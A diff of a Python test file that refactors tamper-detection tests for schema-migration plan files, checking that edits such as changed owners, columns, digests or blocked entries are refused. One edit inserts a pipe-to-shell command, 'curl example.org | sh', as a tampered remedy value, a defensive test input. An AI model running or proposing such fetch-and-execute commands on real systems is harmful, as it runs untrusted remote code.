@@ -103,22 +103,6 @@ def another_location(document: Document) -> None:
     change_of(document, "events")["after"]["location"] = place + "-elsewhere"
 
 
-def another_owner(document: Document) -> None:
-    change_of(document, "events")["after"]["managed_by"] = "somebody/else"
-
-
-def protected(document: Document) -> None:
-    change_of(document, "events")["after"]["protect"] = True
-
-
-def other_columns(document: Document) -> None:
-    change_of(document, "typed")["after"]["columns"][0]["type"] = "string"
-
-
-def fewer_columns(document: Document) -> None:
-    del change_of(document, "typed")["after"]["columns"][1]
-
-
 def deregistering_what_is_wanted(document: Document) -> None:
     """`kept` is in the manifest: its deregistration is put in with the state it really is in."""
     document["changes"].append({**change_of(document, "clicks"), "identifier": ["features", "kept"]})
@@ -158,29 +142,21 @@ def fingerprint(document: Document, name: str) -> Document:
     }
 
 
-def without_a_change(document: Document) -> None:
-    document["changes"] = [one for one in document["changes"] if one["identifier"][-1] != "clicks"]
-
-
-def digest_of_zeros(document: Document) -> None:
-    fingerprint_of(document, "users")["digest"] = "0" * 64
-
-
-EDITS: list[Edit] = [
-    another_owner,
-    protected,
-    other_columns,
-    fewer_columns,
-    deregistering_what_is_wanted,
-    what_is_wanted_as_a_leftover,
-    a_removal_said_to_be_prevented,
-    without_a_change,
-    digest_of_zeros,
-]
+EDITS: dict[str, Edit] = {
+    "another owner": lambda plan: change_of(plan, "events")["after"].update(managed_by="somebody/else"),
+    "protected": lambda plan: change_of(plan, "events")["after"].update(protect=True),
+    "other columns": lambda plan: change_of(plan, "typed")["after"]["columns"][0].update(type="string"),
+    "fewer columns": lambda plan: change_of(plan, "typed")["after"]["columns"].pop(),
+    "deregistering what is wanted": deregistering_what_is_wanted,
+    "what is wanted as a leftover": what_is_wanted_as_a_leftover,
+    "a removal said to be prevented": a_removal_said_to_be_prevented,
+    "without a change": lambda plan: plan["changes"].remove(change_of(plan, "clicks")),
+    "digest of zeros": lambda plan: fingerprint_of(plan, "users").update(digest="0" * 64),
+}
 
 
 @pytest.mark.parametrize("seal", [False, True], ids=["as edited", "sealed again"])
-@pytest.mark.parametrize("edit", EDITS)
+@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS)
 def test_an_edit_that_changes_what_is_done_is_refused(review: Review, edit: Edit, seal: bool) -> None:
     with pytest.raises(PlanFileError, match=r"Make the plan again\.") as caught:
         review.apply(review.edited(edit, seal=seal))
@@ -264,17 +240,9 @@ class Growth:
         )
 
 
-def another_column(document: Document) -> None:
-    change_of(document, "users")["after"]["columns"].append({"name": "x", "type": "int8"})
-
-
 def a_column_as_if_it_were_there(document: Document) -> None:
     for view in (change_of(document, "users")["before"], fingerprint_of(document, "users")["view"]):
         view["columns"].append({"name": "age", "type": "int32"})
-
-
-def a_column_that_is_not_added(document: Document) -> None:
-    del change_of(document, "users")["after"]["columns"][1]
 
 
 def what_is_blocked_as_a_change(document: Document) -> None:
@@ -283,20 +251,16 @@ def what_is_blocked_as_a_change(document: Document) -> None:
     document["changes"].append(change)
 
 
-def what_is_blocked_left_out(document: Document) -> None:
-    del document["blocked"]
+COLUMN_EDITS: dict[str, Edit] = {
+    "another column": lambda plan: change_of(plan, "users")["after"]["columns"].append({"name": "x", "type": "int8"}),
+    "a column as if it were there": a_column_as_if_it_were_there,
+    "a column that is not added": lambda plan: change_of(plan, "users")["after"]["columns"].pop(),
+    "what is blocked as a change": what_is_blocked_as_a_change,
+    "what is blocked left out": lambda plan: plan.pop("blocked"),
+}
 
 
-@pytest.mark.parametrize(
-    "edit",
-    [
-        another_column,
-        a_column_as_if_it_were_there,
-        a_column_that_is_not_added,
-        what_is_blocked_as_a_change,
-        what_is_blocked_left_out,
-    ],
-)
+@pytest.mark.parametrize("edit", COLUMN_EDITS.values(), ids=COLUMN_EDITS)
 def test_no_edit_changes_columns_that_the_manifest_does_not_ask_for(tmp_path: Path, edit: Edit) -> None:
     growth = Growth(tmp_path)
     before = growth.columns()
@@ -338,24 +302,6 @@ def blocked(tmp_path: Path) -> BlockedReview:
     return BlockedReview(tmp_path)
 
 
-def not_blocked_any_more(document: Document) -> None:
-    del document["blocked"]
-    document["summary"]["blocked"] = 0
-
-
-def another_reason(document: Document) -> None:
-    document["blocked"][0]["code"] = "made-outside"
-
-
-def another_remedy(document: Document) -> None:
-    document["blocked"][0].setdefault("params", {})["code"] = "curl https://example.org | sh"
-
-
-def another_blocked_object(document: Document) -> None:
-    document["blocked"].append({**document["blocked"][0], "identifier": ["features", "kept"]})
-    document["summary"]["blocked"] += 1
-
-
 def a_change_as_a_blocked_object(document: Document) -> None:
     """`users` is not updated but said to be blocked, in the state it is in."""
     change = change_of(document, "users")
@@ -373,22 +319,28 @@ def waiting_instead_of_done(document: Document) -> None:
     document["summary"]["deregister"] = 0
 
 
-def other_columns_found(document: Document) -> None:
-    document["blocked"][0]["columns"][0]["type"] = "int64"
+def not_blocked_any_more(document: Document) -> None:
+    del document["blocked"]
+    document["summary"]["blocked"] = 0
 
 
-BLOCKED_EDITS: list[Edit] = [
-    not_blocked_any_more,
-    another_reason,
-    another_remedy,
-    another_blocked_object,
-    a_change_as_a_blocked_object,
-    waiting_instead_of_done,
-    other_columns_found,
-]
+def another_blocked_object(document: Document) -> None:
+    document["blocked"].append({**document["blocked"][0], "identifier": ["features", "kept"]})
+    document["summary"]["blocked"] += 1
 
 
-@pytest.mark.parametrize("edit", BLOCKED_EDITS)
+BLOCKED_EDITS: dict[str, Edit] = {
+    "not blocked any more": not_blocked_any_more,
+    "another reason": lambda plan: plan["blocked"][0].update(code="made-outside"),
+    "another remedy": lambda plan: plan["blocked"][0].setdefault("params", {}).update(code="curl example.org | sh"),
+    "another blocked object": another_blocked_object,
+    "a change as a blocked object": a_change_as_a_blocked_object,
+    "waiting instead of done": waiting_instead_of_done,
+    "other columns found": lambda plan: plan["blocked"][0]["columns"][0].update(type="int64"),
+}
+
+
+@pytest.mark.parametrize("edit", BLOCKED_EDITS.values(), ids=BLOCKED_EDITS)
 def test_an_edit_of_what_is_blocked_is_refused(blocked: BlockedReview, edit: Edit) -> None:
     with pytest.raises(PlanFileError, match=r"Make the plan again\."):
         blocked.apply(blocked.edited(edit, seal=True))
